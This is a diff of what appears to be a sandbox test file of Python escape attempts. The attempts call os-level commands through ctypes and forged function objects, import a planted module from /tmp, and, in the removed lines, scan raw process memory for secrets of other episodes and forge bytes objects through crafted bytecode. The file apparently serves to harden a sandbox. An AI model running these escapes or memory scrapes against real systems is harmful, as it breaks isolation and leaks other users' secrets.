@@ -1,4 +1,4 @@
-# Attacks below Python: ctypes, forged objects and bytecode, the function table, raw memory.
+# Attacks below Python: ctypes, code objects and bytecode, other interpreters, frames. Raw memory has a file of its own.
 
 #! ctypes system
 import ctypes
@@ -39,15 +39,6 @@ for name in ['popen', 'execve', 'fork', 'vfork', 'posix_spawn', 'system', 'emscr
         getattr(library, name)(COMMAND.encode(), b'r', 0)
     except BaseException as error:
         print(name, type(error).__name__)
-
-#= every entry of the function table
-import ctypes
-shape = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)
-for index in range(1, 3000):
-    try:
-        shape(index)(COMMAND.encode())
-    except Exception:
-        pass
 
 #= every import of the interpreter by symbol
 import ctypes
@@ -95,42 +86,6 @@ import sys
 sys.path.insert(0, '/tmp')
 import evilext
 
-#= memory of the process read from Python
-import ctypes
-print(ctypes.string_at(1024, 65536)[:0])
-needle = ('ENV', 'SECRET')
-size = 30 * 1024 * 1024
-data = ctypes.string_at(0, size)
-start = data.find(b'FILE-SECRET-')
-print(data[start:start + 60] if start >= 0 else 'nothing')
-
-#= secrets of other episodes in memory
-import ctypes
-data = ctypes.string_at(0, 31 * 1024 * 1024)
-for head in ['PEER', 'PAST']:
-    word = (head + '-SECRET-').encode()
-    start = data.find(word)
-    while start >= 0:
-        found = data[start:start + 44]
-        if found[len(word):len(word) + 4].isalnum():
-            print(found)
-            break
-        start = data.find(word, start + 1)
-
-#= buffer over all memory by a forged bytes object
-import types, struct
-def reader():
-    pass
-fake = struct.pack('<6I', 1 << 20, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0)
-consts = (fake,)
-code = reader.__code__.replace(co_consts=consts)
-load = code.replace(co_code=bytes([149, 0, 83, 255, 36, 0]))
-try:
-    thing = types.FunctionType(load, {})()
-    print(type(thing), bytes(thing[1024:2048])[:0])
-except Exception as error:
-    print(error)
-
 #= code object with wild bytecode
 import types
 def victim():
@@ -174,20 +129,6 @@ types.FunctionType(code, {})()
 #! function type reached through a lambda
 maker = type(lambda: 0)
 maker(compile('__import__("os").system(%r)' % COMMAND, 'x', 'eval'), {})()
-
-#= builtin function table patched in memory
-import ctypes
-target = id(len)
-ctypes.memset(target + 8, 0x41, 4)
-try:
-    len('x')
-except BaseException as error:
-    print(type(error).__name__)
-
-#= interpreter state overwritten
-import ctypes
-ctypes.memset(1024, 0, 4 << 20)
-print('still here')
 
 #= allowed import called through a patched table index
 import ctypes
